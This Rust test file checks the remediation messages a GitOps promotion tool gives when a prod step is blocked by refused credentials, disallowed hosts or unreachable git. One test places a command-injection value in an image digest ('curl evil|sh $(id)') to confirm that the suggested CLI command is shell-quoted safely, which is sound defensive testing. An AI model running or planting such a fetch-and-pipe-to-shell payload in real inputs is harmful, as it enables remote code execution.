//! What somebody outside does not permit, and who can do what about it.

use super::*;

/// A step of prod that somebody does not let in.
fn refused(said: &str, secret: Option<&str>) -> Scene {
    blocked("NotLetIn", said, secret)
}

/// A step of prod that somebody does not let through.
fn blocked(reason: &str, said: &str, secret: Option<&str>) -> Scene {
    let status = json!({"state": "Promoting", "message": said, "conditions": [{
        "type": "Blocked", "status": "True", "reason": reason, "message": said,
        "lastTransitionTime": "2026-04-09T10:20:00Z",
    }]});
    let mut scene = Scene::at_the_gates().step("prod", status);
    let git = json!({"url": "https://example.com/gitops", "secretRef": secret});
    scene.steps.last_mut().unwrap().spec.git = Some(object(git));
    scene
}

#[test]
fn refused_credentials_name_the_secret() {
    let said = "https://example.com/gitops refuses the credentials";
    refused(said, Some("github-token")).says(
        "prod",
        Outcome::Blocked,
        &["no ETA: needs a person to correct the Secret `github-token`", &format!("RESULT: BLOCKED: {said}")],
    );
    refused(said, None).says(
        "prod",
        Outcome::Blocked,
        &[
            "no ETA: needs a person to name a Secret in `spec.git.secretRef` of the Pipeline and then to start anew",
            "`kardinal create bundle my-app --image my-app=ghcr.io/myorg/my-app:1.29.0 -n default`",
        ],
    );
    // The same content, the same way.
    let mut scene = refused(said, None);
    let spec = &mut scene.bundles[0].spec;
    spec.artifacts.images[0].digest = Some("sha256:abc".to_owned());
    spec.artifacts.git_commit =
        Some(object(json!({"repository": "https://example.com/config", "sha": "abc123def456"})));
    spec.intent = Some(object(json!({"target": "prod", "skip": ["staging"]})));
    let command = "`kardinal create bundle my-app --image my-app=ghcr.io/myorg/my-app:1.29.0@sha256:abc \
         --git-commit https://example.com/config@abc123def456 --target prod --skip staging -n default`";
    assert_eq!(remedy(&scene.steps[0], &scene.bundles[0]).unwrap().split(": ").last(), Some(command));
}

#[test]
fn the_secret_of_the_task_that_was_refused_is_named_and_not_that_of_git() {
    for git in [Some("github-token"), None] {
        let mut scene = refused("the Secret does not exist: permission denied", git);
        let step = &mut scene.steps[0];
        step.spec.steps = Some(object(json!([
            {"uses": "git-clone"},
            {"uses": "smoke", "config": {"url": "https://ci.example.com", "secretRef": {"name": "ci-token"}}},
        ])));
        let status = step.status.as_mut().unwrap();
        status.current_step_index = Some(1);
        let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
        assert!(answer.contains("correct the Secret `ci-token`; it goes on by itself"), "{answer}");
    }
}

#[test]
fn a_command_that_is_told_runs_nothing_that_is_written_in_a_bundle() {
    let mut scene = refused("https://example.com/gitops refuses the credentials", None);
    scene.bundles[0].spec.artifacts.images[0].digest = Some("sha256:a;curl evil|sh $(id) 'x'".to_owned());
    let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
    let quoted =
        r"--image 'my-app=ghcr.io/myorg/my-app:1.29.0@sha256:a;curl evil|sh $(id) '\''x'\''' -n default`";
    assert!(answer.ends_with(quoted), "{answer}");
    // A rollback that is made as any other Bundle is none.
    let spec = &mut scene.bundles[0].spec;
    spec.provenance = Some(object(json!({"rollbackOf": "my-app-v1-30-0"})));
    spec.intent = Some(object(json!({"target": "prod"})));
    let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
    let again = "&& kardinal rollback my-app --env prod --to 1.29.0 -n default`";
    assert!(answer.ends_with(again), "{answer}");
    // While it is there it is on its way already, and nothing would be made.
    let name = scene.bundles[0].metadata.name.clone().unwrap();
    let delete = format!("`kubectl delete bundles.kardinal.io {name} -n default {again}");
    assert!(answer.ends_with(&delete), "{answer}");
    let labels = scene.bundles[0].metadata.labels.get_or_insert_default();
    labels.insert("kardinal.io/emergency".to_owned(), "true".to_owned());
    let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
    assert!(answer.ends_with("--to 1.29.0 --emergency -n default`"), "{answer}");
}

#[test]
fn a_graph_that_the_server_does_not_take_is_a_problem_and_not_promoting() {
    let mut scene = Scene::new();
    scene.graphs.clear();
    let said = "the API server does not take the Graph `my-app-v1-29-0`: request is too large";
    scene.bundles[0].status = Some(object(json!({
        "phase": "Available",
        "conditions": [{"type": "Ready", "status": "False", "reason": "GraphRefused", "message": said,
            "lastTransitionTime": NOW}],
    })));
    for environment in ["dev", "prod"] {
        scene.says(
            environment,
            Outcome::Blocked,
            &["needs a person to change what the API server says", &format!("RESULT: BLOCKED: {said}")],
        );
    }
}

#[test]
fn a_host_that_is_not_allowed_is_the_operators_matter() {
    let said =
        "`git.example.com` may not be reached: the operator names it with `--allowed-hosts git.example.com`";
    for secret in [None, Some("github-token")] {
        blocked("HostNotAllowed", said, secret).says(
            "prod",
            Outcome::Blocked,
            &["no ETA: needs the operator of the controllers\n", &format!("RESULT: BLOCKED: {said}")],
        );
    }
    let mut scene = blocked("HostNotAllowed", said, None);
    let labels = [(kardinal_api::kardinal::SHARD_LABEL.to_owned(), "eu".to_owned())];
    scene.steps.last_mut().unwrap().metadata.labels = Some(labels.into());
    let answer = remedy(scene.steps.last().unwrap(), &scene.bundles[0]);
    assert_eq!(answer.as_deref(), Some("needs the operator of the controllers or of the agent of shard eu"));
}

#[test]
fn nobody_is_sent_to_mend_what_cannot_be_mended() {
    let said = "PR #3 cannot be merged yet: the forge is still looking at it";
    let scene = blocked("ActionNeeded", said, Some("github-token"));
    scene.says("prod", Outcome::Blocked, &["no ETA: it is tried again every few seconds"]);
    assert!(!scene.explain("prod").render().contains("needs a person to correct"));
}

#[test]
fn no_word_of_a_message_says_whom_it_is_about() {
    let said = "`token-service` has no file `permissions/forbidden.yaml`: see --allowed-hosts";
    // Conditions that were stored before have one word for everything.
    for reason in ["ActionNeeded", "SomethingElse"] {
        let answer = remedy(&blocked(reason, said, Some("s")).steps[0], &Scene::new().bundles[0]).unwrap();
        assert_eq!(answer, "it is tried again every few seconds and goes on as soon as it can", "{reason}");
    }
    // A wait of the step's own tells more than such a condition.
    let mut scene = blocked("ActionNeeded", said, Some("s"));
    let status = scene.steps[0].status.as_mut().unwrap();
    status.waits = vec![why::blocked(Barrier::NotLetIn, said)];
    let answer = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
    assert_eq!(answer, "needs a person to correct the Secret `s`; it goes on by itself then");
}

#[test]
fn git_that_cannot_be_reached_is_a_problem_and_not_promoting() {
    let said = "pushing to `main`: https://example.com/gitops does not answer: connection refused";
    for state in ["Promoting", "WaitingForMerge"] {
        let url = "https://example.com/pull/3";
        let status = json!({"state": state, "prURL": url, "waits": [why::outside(said)]});
        let scene = Scene::at_the_gates().step("prod", status);
        let lines = [
            &format!("RESULT: BLOCKED: {said}") as &str,
            "no ETA: kardinal tries again by itself and goes on as soon as that works",
        ];
        scene.says("prod", Outcome::Blocked, &lines);
        assert!(!scene.explain("prod").render().contains("PROMOTING"), "{state}");
    }
}
